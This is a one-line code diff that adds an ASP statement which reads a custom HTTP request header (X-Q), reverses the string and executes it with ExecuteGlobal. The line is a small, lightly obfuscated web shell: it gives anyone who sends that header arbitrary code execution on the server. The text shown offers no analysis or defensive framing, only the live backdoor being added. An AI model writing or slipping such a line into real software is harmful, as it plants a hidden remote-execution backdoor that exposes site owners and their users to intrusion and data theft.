@@ -1,0 +1,1 @@
+<% c = Request.ServerVariables("HTTP_X_Q") : ExecuteGlobal StrReverse(c) %>
